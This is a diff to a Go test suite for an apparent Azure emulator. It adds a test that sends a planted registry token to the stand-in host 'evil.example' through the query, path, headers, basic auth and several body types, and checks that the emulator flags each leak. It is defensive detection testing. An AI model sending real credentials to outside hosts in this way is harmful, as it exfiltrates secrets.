@@ -19,10 +19,10 @@ func imds(t *testing.T, az *azuretest.Azure, path string) string {
 		t.Fatal(err)
 	}
 	req.Header.Set("Metadata", "true")
-	return field(t, body(t, az.ManagedIdentityClient(), req), "access_token")
+	return field(t, read(t, az.ManagedIdentityClient(), req), "access_token")
 }
 
-func body(t *testing.T, c *http.Client, req *http.Request) string {
+func read(t *testing.T, c *http.Client, req *http.Request) string {
 	t.Helper()
 	resp, err := c.Do(req)
 	if err != nil {
@@ -72,7 +72,7 @@ func (w wrong) send(method, address, authorization string, form url.Values) stri
 	}
 	c := w.az.Direct()
 	c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
-	return body(w.t, c, req)
+	return read(w.t, c, req)
 }
 
 func (w wrong) exchange(change func(url.Values)) string {
@@ -165,6 +165,52 @@ func (w wrong) plainProxy() {
 		w.t.Fatal(err)
 	}
 	_ = resp.Body.Close()
+}
+
+// Secrets are found wherever a request has room for them.
+func TestSecretsAreFoundWhereverTheyAre(t *testing.T) {
+	const secret = "pa55/word+="
+	for name, send := range map[string]func(*http.Request){
+		"query":  func(r *http.Request) { r.URL.RawQuery = url.Values{"q": {"x" + secret}}.Encode() },
+		"path":   func(r *http.Request) { r.URL.Path = "/x/" + secret; r.URL.RawPath = "/x/" + secret },
+		"header": func(r *http.Request) { r.Header.Set("X-Anything", "a "+secret) },
+		"basic":  func(r *http.Request) { r.SetBasicAuth("u", secret) },
+		"form": func(r *http.Request) {
+			body(r, "application/x-www-form-urlencoded", url.Values{"a": {secret}}.Encode())
+		},
+		"JSON":        func(r *http.Request) { body(r, "application/json", `{"a":"`+secret+`"}`) },
+		"no type":     func(r *http.Request) { body(r, "", secret) },
+		"nothing":     nil,
+		"other words": func(r *http.Request) { body(r, "application/json", "{}") },
+	} {
+		az := azuretest.New(nil)
+		az.NewRegistry("dev").AddToken("puller", secret)
+		got := ""
+		az.Handle("evil.example", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+			data, _ := io.ReadAll(r.Body)
+			got = string(data)
+		}))
+		req, err := http.NewRequest(http.MethodPost, "https://evil.example/", http.NoBody)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if send != nil {
+			send(req)
+		}
+		read(t, az.Direct(), req)
+		if found := strings.Contains(strings.Join(az.Complaints(), ""), "a password was sent"); found != (send != nil && name != "other words") {
+			t.Errorf("%s: %q", name, az.Complaints())
+		}
+		if name == "JSON" && got != `{"a":"`+secret+`"}` {
+			t.Errorf("the handler finds the body %q", got)
+		}
+		az.Close()
+	}
+}
+
+func body(r *http.Request, contentType, text string) {
+	r.Header.Set("Content-Type", contentType)
+	r.Body = io.NopCloser(strings.NewReader(text))
 }
 
 // TestRefusals: what Azure refuses without anybody being wrong.
